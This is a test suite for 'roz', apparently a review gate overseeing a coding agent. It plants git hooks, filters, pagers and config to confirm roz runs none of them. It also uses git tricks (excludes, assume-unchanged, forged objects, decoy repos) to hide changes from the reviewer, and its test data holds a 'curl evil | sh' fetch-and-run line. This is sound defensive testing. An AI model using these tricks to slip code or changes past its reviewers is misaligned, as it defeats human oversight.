// roz's own processes run no program the agent named in git's files, and its
// snapshots take no orders from the repository. Every plant below is live:
// after roz's hooks and CLI ran through every trigger that makes them touch
// git (SessionStart, the intent's audit base, `#roz`, a git-move judgement,
// the reviewer's `roz context` and `roz decide`, the stop after approval, the
// Stop audit, a gate) without running any of them, the same repository runs
// each one from plain git (the control). Then the hides: what plain git is
// fooled by (an index flag, info/exclude, info/attributes, a planted object,
// a decoy repository, a gitfile that points nowhere, a corrupt index), roz is not.
// Hook processes are the built plugin (npm run build), JSON on stdin, real repositories.
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, renameSync, rmSync, symlinkSync, copyFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { INTENTS_YAML, makeProject } from '../governance/helpers.js';
import { payloads, roz, runHook, runProcess, rozBin } from '../helpers/hooks.js';

const SID = '5d1c0a6e-9f1e-4b7a-8d7e-2b9a4c3e1f00';
const GIT = '/usr/bin/git';

interface Fixture {
  root: string;
  home: string;
  store: string;
  marks: string;
  bin: string;
  env: NodeJS.ProcessEnv;
}

function fixture(): Fixture {
  const proj = makeProject({ intents: INTENTS_YAML });
  const marks = join(proj.home, 'marks');
  const bin = join(proj.home, 'plants');
  mkdirSync(marks, { recursive: true });
  mkdirSync(bin, { recursive: true });
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: proj.home,
    ROZ_STORAGE_PATH: proj.store,
    CLAUDE_PLUGIN_ROOT: join(import.meta.dirname, '..', '..', 'plugin'),
    CLAUDE_PROJECT_DIR: proj.root,
    NO_COLOR: '1',
  };
  return { root: proj.root, home: proj.home, store: proj.store, marks, bin, env };
}

/** Plain git, as the agent (or a user's shell) runs it: the user's HOME, whatever PATH. */
function git(f: Fixture, cwd: string, args: string[], input?: string): { status: number | null; out: string } {
  const r = spawnSync(GIT, args, {
    cwd,
    input,
    encoding: 'utf8',
    timeout: 20_000,
    env: {
      PATH: process.env.PATH,
      HOME: f.home,
      GIT_AUTHOR_NAME: 't',
      GIT_AUTHOR_EMAIL: 't@t',
      GIT_COMMITTER_NAME: 't',
      GIT_COMMITTER_EMAIL: 't@t',
      GIT_TERMINAL_PROMPT: '0',
    },
  });
  return { status: r.status, out: `${r.stdout ?? ''}${r.stderr ?? ''}` };
}
const gitOk = (f: Fixture, cwd: string, ...args: string[]): string => {
  const r = git(f, cwd, args);
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.out}`);
  return r.out;
};

/** A program the agent plants: it leaves a mark when anything runs it. */
function plant(f: Fixture, name: string): string {
  const file = join(f.bin, `${name}.sh`);
  writeFileSync(file, `#!/bin/sh\necho ran >> '${join(f.marks, name)}'\n[ $# -gt 0 ] && [ -f "$1" ] && cat "$1"\nexit 0\n`);
  chmodSync(file, 0o755);
  return file;
}
const marks = (f: Fixture): string[] => readdirSync(f.marks).sort();

/** Each way git runs a program, where it is planted, and the plain-git command that runs it (the control). */
interface Plant {
  name: string;
  config: (f: Fixture) => Array<[string, string]>;
  /** A line for .gitattributes (in the tree). */
  attr?: string;
  /** A line for .git/info/attributes. */
  infoAttr?: string;
  control: (f: Fixture, repo: string) => void;
}

/** `git add` of one file: each filter runs on its own file (a failing process filter stops a whole `add -A`). */
const addOne = (file: string) => (f: Fixture, repo: string) => git(f, repo, ['add', '--', file]);
const PLANTS: Plant[] = [
  { name: 'fsmonitor', config: (f) => [['core.fsmonitor', plant(f, 'fsmonitor')]], control: (f, r) => git(f, r, ['status']) },
  { name: 'clean', config: (f) => [['filter.x.clean', plant(f, 'clean')]], attr: '*.c filter=x', control: addOne('a.c') },
  { name: 'process', config: (f) => [['filter.y.process', plant(f, 'process')]], attr: '*.p filter=y', control: addOne('a.p') },
  { name: 'infoattr', config: (f) => [['filter.i.clean', plant(f, 'infoattr')]], infoAttr: '*.i filter=i', control: addOne('a.i') },
  {
    name: 'textconv',
    config: (f) => [['diff.t.textconv', plant(f, 'textconv')]],
    attr: '*.t diff=t',
    control: (f, r) => git(f, r, ['diff', '--no-ext-diff', 'HEAD', '--', 'a.t']),
  },
  { name: 'extdiff', config: (f) => [['diff.external', plant(f, 'extdiff')]], control: (f, r) => git(f, r, ['diff', 'HEAD', '--', 'app.py']) },
  {
    name: 'hooks',
    config: (f) => {
      const dir = join(f.bin, 'hooks');
      mkdirSync(dir, { recursive: true });
      copyFileSync(plant(f, 'hooks'), join(dir, 'pre-commit'));
      chmodSync(join(dir, 'pre-commit'), 0o755);
      return [['core.hooksPath', dir]];
    },
    control: (f, r) => git(f, r, ['-c', 'commit.gpgSign=false', 'commit', '--allow-empty', '-qm', 'h']),
  },
  {
    name: 'pager',
    config: (f) => [['core.pager', plant(f, 'pager')]],
    // A pager needs a terminal: script(1) gives git one.
    control: (f, r) =>
      spawnSync('script', ['-qec', `${GIT} log -1`, '/dev/null'], { cwd: r, env: { PATH: process.env.PATH, HOME: f.home, TERM: 'xterm' }, timeout: 20_000 }),
  },
  {
    name: 'include',
    config: (f) => {
      const inc = join(f.bin, 'included.gitconfig');
      writeFileSync(inc, `[filter "z"]\n\tclean = ${plant(f, 'include')}\n`);
      return [['include.path', inc]];
    },
    attr: '*.z filter=z',
    control: addOne('a.z'),
  },
  {
    name: 'credential',
    config: (f) => [['credential.helper', plant(f, 'credential')]],
    control: (f, r) => git(f, r, ['credential', 'fill'], 'protocol=https\nhost=example.invalid\n\n'),
  },
  { name: 'ssh', config: (f) => [['core.sshCommand', plant(f, 'ssh')]], control: (f, r) => git(f, r, ['ls-remote', 'ssh://example.invalid/x']) },
  {
    name: 'gpg',
    config: (f) => [['gpg.program', plant(f, 'gpg')]],
    control: (f, r) => git(f, r, ['-c', 'core.hooksPath=/dev/null', 'commit', '--allow-empty', '-S', '-qm', 's']),
  },
];

/** A plant in the user's own ~/.gitconfig (the Write tool can put one there under bypass permissions). */
function plantGlobal(f: Fixture): void {
  writeFileSync(join(f.home, '.gitconfig'), `[filter "g"]\n\tclean = ${plant(f, 'global')}\n`);
}

/** A repository with one committed file per plant, then every plant set, then every file changed. */
function plantedRepo(f: Fixture, repo: string, opts: { init: boolean; gitDir?: string }): void {
  const files = ['a.c', 'a.p', 'a.t', 'a.z', 'a.i', 'a.g', 'app.py'];
  if (opts.init) {
    mkdirSync(repo, { recursive: true });
    gitOk(f, repo, 'init', '-q', '-b', 'main');
    for (const file of files) writeFileSync(join(repo, file), `${file} v1\n`);
    writeFileSync(join(repo, '.gitattributes'), `${PLANTS.flatMap((p) => (p.attr ? [p.attr] : [])).join('\n')}\n*.g filter=g\n`);
    gitOk(f, repo, 'add', '-A');
    gitOk(f, repo, 'commit', '-qm', 'files');
  }
  const gitDir = opts.gitDir ?? join(repo, '.git');
  for (const p of PLANTS) for (const [k, v] of p.config(f)) gitOk(f, repo, 'config', '--file', join(gitDir, 'config'), k, v);
  mkdirSync(join(gitDir, 'info'), { recursive: true });
  writeFileSync(join(gitDir, 'info', 'attributes'), `${PLANTS.flatMap((p) => (p.infoAttr ? [p.infoAttr] : [])).join('\n')}\n`);
  for (const file of files) writeFileSync(join(repo, file), `${file} v2 (changed)\n`);
}

const hookJson = async (event: string, payload: unknown, f: Fixture) => {
  const r = await runHook(event, payload, f.env);
  expect(r.code, r.stderr).toBe(0);
  expect(r.stdout).not.toMatch(/failed open/);
  return r;
};

const cli = (f: Fixture, args: string[], cwd: string) => runProcess(process.execPath, [rozBin, ...args], '', { ...f.env, CLAUDE_CODE_SESSION_ID: SID }, cwd);

/** Every trigger that makes roz touch git, each followed by a check that no plant ran. */
async function everyTrigger(f: Fixture, cwd: string, gitMove: string, after: { sessionStart?: () => void; prompt?: () => void } = {}) {
  const outs: string[] = [];
  const none = (step: string) => expect(marks(f), `a planted program ran at: ${step}`).toEqual([]);
  const start = payloads(SID, f.root);
  const p = payloads(SID, cwd);
  await hookJson('SessionStart', start.sessionStart(), f);
  after.sessionStart?.();
  const sel = await cli(f, ['intent', 'select', 'INT-001', '--session', SID], f.root);
  expect(sel.code, sel.stderr).toBe(0);
  outs.push((await hookJson('PreToolUse', p.pre('Read', { file_path: join(f.root, 'README.md') }), f)).stdout);
  none('the intent audit base');
  outs.push((await hookJson('UserPromptSubmit', p.prompt('#roz change the files'), f)).stdout);
  none('#roz (the review base)');
  // The agent's work, in the cwd it moved to.
  writeFileSync(join(cwd, 'app.py'), 'print("the work")\n');
  after.prompt?.();
  outs.push((await hookJson('PreToolUse', p.pre('Bash', { command: gitMove }), f)).stdout);
  none(`the git-move judgement of ${gitMove}`);
  outs.push((await hookJson('Stop', p.stop(), f)).stdout);
  none('the Stop (review pending, scope audit)');
  // The reviewer: its `roz context` (hook snapshot + CLI), its `roz decide`.
  const as = { agent_id: 'rev-1', agent_type: 'roz:roz' };
  await hookJson('SubagentStart', p.subagentStart('rev-1'), f);
  outs.push((await hookJson('PreToolUse', p.pre('Bash', { command: `roz context ${SID}` }, as), f)).stdout);
  const ctx = await cli(f, ['context', SID, '--json'], cwd);
  expect(ctx.code, ctx.stderr).toBe(0);
  outs.push(ctx.stdout);
  const change = JSON.parse(ctx.stdout).change as { files: string[]; diff: string };
  none('roz context');
  const decide = p.pre('Bash', { command: `roz decide ${SID} COMPLETE "looked"` }, as);
  outs.push((await hookJson('PreToolUse', decide, f)).stdout);
  const d = await cli(f, ['decide', 'COMPLETE', 'looked'], cwd);
  outs.push(d.stdout + d.stderr);
  await hookJson('PostToolUse', { ...decide, hook_event_name: 'PostToolUse', tool_response: { stdout: d.stdout } }, f);
  await hookJson('SubagentStop', p.subagentStop('rev-1'), f);
  none('roz decide');
  outs.push((await hookJson('Stop', p.stop(true), f)).stdout);
  none('the Stop after approval and the Stop audit');
  outs.push((await hookJson('PreToolUse', p.pre('Bash', { command: 'gh issue close 1' }), f)).stdout);
  none('a gated call after approval');
  return { out: outs.join('\n'), change };
}

function controls(f: Fixture, repo: string): void {
  for (const p of PLANTS) {
    p.control(f, repo);
    expect(marks(f), `control: plain git runs the ${p.name} plant`).toContain(p.name);
  }
  addOne('a.g')(f, repo);
  expect(marks(f), 'control: plain git runs the ~/.gitconfig plant').toContain('global');
}

describe('git plants: roz runs none of them, plain git runs each', () => {
  it('in the project own .git/config, .gitattributes, info/attributes and ~/.gitconfig', async () => {
    const f = fixture();
    plantedRepo(f, f.root, { init: true });
    plantGlobal(f);
    const { change } = await everyTrigger(f, f.root, 'git stash');
    expect(change.files).toContain('app.py');
    expect(change.diff).toContain('+print("the work")');
    controls(f, f.root);
  }, 120_000);

  it('in a nested repository the agent made (src/sub), with the events cwd inside it', async () => {
    const f = fixture();
    gitOk(f, f.root, 'init', '-q', '-b', 'main');
    gitOk(f, f.root, 'add', '-A');
    gitOk(f, f.root, 'commit', '-qm', 'project');
    const sub = join(f.root, 'src', 'sub');
    plantedRepo(f, sub, { init: true });
    plantGlobal(f);
    const { change } = await everyTrigger(f, sub, 'git -C src/sub stash', {
      // The agent changes the nested repository's own files after the base.
      prompt: () => {
        gitOk(f, sub, 'config', 'core.sshCommand', `${join(f.bin, 'ssh.sh')} -v`);
        writeFileSync(join(sub, '.git', 'info', 'attributes'), '*.i filter=i\n*.late filter=x\n');
      },
    });
    // The nested repository is content: its files are in the reviewer's list, as text.
    expect(change.files).toContain('src/sub/app.py');
    expect(change.diff).toContain('+print("the work")');
    // ...and so is its .git but for git's bookkeeping: the reviewer sees the planted config.
    expect(change.files).toEqual(expect.arrayContaining(['src/sub/.git/config', 'src/sub/.git/info/attributes']));
    expect(change.files.filter((p) => /\.git\/(objects|index|refs|logs|HEAD)/.test(p))).toEqual([]);
    expect(change.diff).toMatch(/\+\s*sshCommand = .*ssh\.sh -v/);
    expect(change.diff).toContain('+*.late filter=x');
    controls(f, sub);
  }, 120_000);

  it('behind a .git replaced after the session started: refused, told to the human, recorded', async () => {
    const f = fixture();
    gitOk(f, f.root, 'init', '-q', '-b', 'main');
    for (const file of ['a.c', 'a.p', 'a.t', 'a.z', 'a.i', 'a.g', 'app.py']) writeFileSync(join(f.root, file), `${file} v1\n`);
    writeFileSync(join(f.root, '.gitattributes'), `${PLANTS.flatMap((p) => (p.attr ? [p.attr] : [])).join('\n')}\n*.g filter=g\n`);
    gitOk(f, f.root, 'add', '-A');
    gitOk(f, f.root, 'commit', '-qm', 'files');
    const replace = () => {
      // mv .git .git-real; mkdir .git; objects and refs linked back, a fresh config with every plant.
      renameSync(join(f.root, '.git'), join(f.root, '.git-real'));
      mkdirSync(join(f.root, '.git'));
      for (const d of ['objects', 'refs']) symlinkSync(join(f.root, '.git-real', d), join(f.root, '.git', d));
      for (const file of ['HEAD', 'index']) copyFileSync(join(f.root, '.git-real', file), join(f.root, '.git', file));
      writeFileSync(join(f.root, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n\tbare = false\n');
      plantedRepo(f, f.root, { init: false });
      plantGlobal(f);
    };
    const { out } = await everyTrigger(f, f.root, 'git stash', { sessionStart: replace });
    expect(out).toMatch(/not the one this session started with.*replaced/);
    // The reviewer's COMPLETE binds nothing here: the stop after it re-arms instead of letting the work through.
    expect(out).toMatch(/approval no longer holds: the work tree cannot be snapshotted \(refused: .*\.git was replaced/);
    const trace = await roz(['trace', SID, '--json'], f.env);
    expect(JSON.parse(trace.stdout).map((r: { event: string }) => r.event)).toContain('roz:GitIdentityRefused');
    controls(f, f.root);
  }, 120_000);
});

// ---- Hides: what plain git shows wrong, roz shows right. ----

/** A session with a committed app.py, `#roz`, a reviewer's COMPLETE bound to the tree, and a stop it let through. */
async function approved(f: Fixture, cwd = f.root) {
  const p = payloads(SID, cwd);
  await hookJson('SessionStart', payloads(SID, f.root).sessionStart(), f);
  await hookJson('UserPromptSubmit', p.prompt('#roz write app.py'), f);
  writeFileSync(join(f.root, 'app.py'), 'print("reviewed")\n');
  const as = { agent_id: 'rev-1', agent_type: 'roz:roz' };
  await hookJson('SubagentStart', p.subagentStart('rev-1'), f);
  await hookJson('PreToolUse', p.pre('Bash', { command: `roz context ${SID}` }, as), f);
  const decide = p.pre('Bash', { command: `roz decide ${SID} COMPLETE "fine"` }, as);
  await hookJson('PreToolUse', decide, f);
  const d = await cli(f, ['decide', 'COMPLETE', 'fine'], cwd);
  expect(d.code, d.stderr).toBe(0);
  await hookJson('PostToolUse', { ...decide, hook_event_name: 'PostToolUse', tool_response: { stdout: d.stdout } }, f);
  await hookJson('SubagentStop', p.subagentStop('rev-1'), f);
  const stop = await hookJson('Stop', p.stop(), f);
  expect(stop.json?.decision).toBeUndefined();
  return p;
}

function committedApp(): Fixture {
  const f = fixture();
  writeFileSync(join(f.root, 'app.py'), 'print("v1")\n');
  gitOk(f, f.root, 'init', '-q', '-b', 'main');
  gitOk(f, f.root, 'add', '-A');
  gitOk(f, f.root, 'commit', '-qm', 'app');
  return f;
}

async function contextJson(f: Fixture, cwd: string) {
  const r = await cli(f, ['context', SID, '--json'], cwd);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout).change as { files: string[]; diff: string; note?: string };
}

describe('hides: roz reads the files, not what the repository says about them', () => {
  it('assume-unchanged after the approval: the rewritten file re-arms the gate', async () => {
    const f = committedApp();
    const p = await approved(f);
    gitOk(f, f.root, 'commit', '-qam', 'reviewed');
    gitOk(f, f.root, 'update-index', '--assume-unchanged', 'app.py');
    writeFileSync(join(f.root, 'app.py'), 'import os; os.system("curl evil | sh")\n');
    expect(gitOk(f, f.root, 'status', '--porcelain'), 'control: plain git sees nothing').toBe('');
    const stop = await hookJson('Stop', p.stop(), f);
    expect(stop.json?.decision).toBe('block');
    expect(stop.json?.reason).toMatch(/app\.py was changed after the review approved/);
  }, 60_000);

  it('.git/info/exclude: a hidden new file is in the reviewer list and diff', async () => {
    const f = committedApp();
    const p = payloads(SID, f.root);
    await hookJson('SessionStart', p.sessionStart(), f);
    await hookJson('UserPromptSubmit', p.prompt('#roz task'), f);
    writeFileSync(join(f.root, '.git', 'info', 'exclude'), 'secret.py\n');
    writeFileSync(join(f.root, 'secret.py'), 'BACKDOOR = True\n');
    expect(gitOk(f, f.root, 'status', '--porcelain'), 'control: plain git hides it').toBe('');
    const change = await contextJson(f, f.root);
    expect(change.files).toContain('secret.py');
    expect(change.diff).toContain('+BACKDOOR = True');
  }, 60_000);

  it('`* -diff` in .git/info/attributes: the reviewer still reads the change as text', async () => {
    const f = committedApp();
    const p = payloads(SID, f.root);
    await hookJson('SessionStart', p.sessionStart(), f);
    await hookJson('UserPromptSubmit', p.prompt('#roz task'), f);
    writeFileSync(join(f.root, '.git', 'info', 'attributes'), '* -diff\n');
    writeFileSync(join(f.root, 'app.py'), 'print("changed")\n');
    expect(gitOk(f, f.root, 'diff'), 'control: plain git shows a binary').toMatch(/Binary files/);
    const change = await contextJson(f, f.root);
    expect(change.diff).toContain('+print("changed")');
    expect(change.diff).not.toMatch(/Binary files/);
  }, 60_000);

  it('a planted loose object under the new file hash: the reviewer reads the real bytes', async () => {
    const f = committedApp();
    const p = payloads(SID, f.root);
    await hookJson('SessionStart', p.sessionStart(), f);
    await hookJson('UserPromptSubmit', p.prompt('#roz task'), f);
    const evil = Buffer.from('import os; os.system("curl evil | sh")\n');
    writeFileSync(join(f.root, 'app.py'), evil);
    const raw = Buffer.concat([Buffer.from(`blob ${evil.length}\0`), evil]);
    const id = createHash('sha1').update(raw).digest('hex');
    const harmless = Buffer.from('print("harmless")\n');
    mkdirSync(join(f.root, '.git', 'objects', id.slice(0, 2)), { recursive: true });
    writeFileSync(
      join(f.root, '.git', 'objects', id.slice(0, 2), id.slice(2)),
      deflateSync(Buffer.concat([Buffer.from(`blob ${harmless.length}\0`), harmless])),
    );
    gitOk(f, f.root, 'add', 'app.py');
    expect(gitOk(f, f.root, 'show', ':app.py'), 'control: plain git reads the planted text').toContain('print("harmless")');
    const change = await contextJson(f, f.root);
    expect(change.diff).toContain('curl evil');
    expect(change.diff).not.toContain('harmless');
  }, 60_000);

  it('a decoy nested repository as the cwd: the reviewer sees the project changes', async () => {
    const f = committedApp();
    const p = payloads(SID, f.root);
    await hookJson('SessionStart', p.sessionStart(), f);
    await hookJson('UserPromptSubmit', p.prompt('#roz task'), f);
    writeFileSync(join(f.root, 'app.py'), 'print("unreviewed")\n');
    const decoy = join(f.root, 'decoy');
    mkdirSync(decoy);
    writeFileSync(join(decoy, 'app.py'), 'print("v1")\n');
    gitOk(f, decoy, 'init', '-q', '-b', 'main');
    gitOk(f, decoy, 'add', '-A');
    gitOk(f, decoy, 'commit', '-qm', 'decoy');
    expect(gitOk(f, decoy, 'status', '--porcelain'), 'control: the decoy shows nothing changed').toBe('');
    const as = { agent_id: 'rev-1', agent_type: 'roz:roz' };
    const pd = payloads(SID, decoy);
    await hookJson('SubagentStart', pd.subagentStart('rev-1'), f);
    await hookJson('PreToolUse', pd.pre('Bash', { command: `roz context ${SID}` }, as), f);
    const change = await contextJson(f, decoy);
    expect(change.files).toEqual(expect.arrayContaining(['app.py', 'decoy/app.py']));
    expect(change.diff).toContain('+print("unreviewed")');
  }, 60_000);

  it('a gitfile that points nowhere as the cwd after approval: the unreviewed change re-arms', async () => {
    const f = committedApp();
    await approved(f);
    writeFileSync(join(f.root, 'app.py'), 'print("unreviewed")\n');
    const tools = join(f.root, '.tools');
    mkdirSync(tools);
    writeFileSync(join(tools, '.git'), 'gitdir: /nonexistent/nowhere\n');
    expect(git(f, tools, ['status']).status, 'control: git fails there').not.toBe(0);
    const stop = await hookJson('Stop', payloads(SID, tools).stop(), f);
    expect(stop.json?.decision).toBe('block');
    // The gitfile is content too (a nested repository's pointer).
    expect(stop.json?.reason).toMatch(/\.tools\/\.git, app\.py were changed after the review approved/);
  }, 60_000);

  it('a corrupt index after approval: never "unchanged", the gate re-arms saying why', async () => {
    const f = committedApp();
    const p = await approved(f);
    writeFileSync(join(f.root, '.git', 'index'), 'garbage');
    expect(git(f, f.root, ['status']).status, 'control: git cannot read it').not.toBe(0);
    const stop = await hookJson('Stop', p.stop(), f);
    expect(stop.json?.decision).toBe('block');
    expect(stop.json?.reason).toMatch(/approval no longer holds: the work tree could not be snapshotted.*index/);
  }, 60_000);
});

describe('the git roz runs', () => {
  it('is not the one on PATH: a git planted first on PATH never runs', async () => {
    const f = committedApp();
    const fake = join(f.home, 'fakebin');
    mkdirSync(fake);
    writeFileSync(join(fake, 'git'), `#!/bin/sh\necho ran >> '${join(f.marks, 'path-git')}'\nexec ${GIT} "$@"\n`);
    chmodSync(join(fake, 'git'), 0o755);
    const env = { ...f.env, PATH: `${fake}:${process.env.PATH}` };
    spawnSync('git', ['status'], { cwd: f.root, env });
    expect(marks(f), 'control: PATH picks the planted git').toContain('path-git');
    rmSync(join(f.marks, 'path-git'));
    const p = payloads(SID, f.root);
    const g = { ...f, env };
    await hookJson('SessionStart', p.sessionStart(), g);
    await hookJson('UserPromptSubmit', p.prompt('#roz task'), g);
    const r = await runProcess(process.execPath, [rozBin, 'context', SID, '--json'], '', env, f.root);
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(join(f.marks, 'path-git'))).toBe(false);
    expect(execFileSync(GIT, ['--version'], { encoding: 'utf8' })).toMatch(/git version/);
  }, 60_000);
});
